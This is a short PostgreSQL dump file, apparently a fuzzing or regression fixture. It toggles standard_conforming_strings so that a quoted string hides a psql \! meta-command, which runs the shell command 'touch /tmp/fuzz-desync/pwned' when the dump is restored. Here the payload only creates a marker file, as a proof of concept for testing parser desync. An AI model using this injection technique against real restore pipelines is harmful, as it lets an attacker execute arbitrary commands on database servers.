--
-- PostgreSQL database dump
--

SET standard_conforming_strings = off;
SELECT pg_catalog.set_config('standard_conforming_strings', 'on', false);
SELECT 'a\';
\! touch /tmp/fuzz-desync/pwned
';

--
-- PostgreSQL database dump complete
--
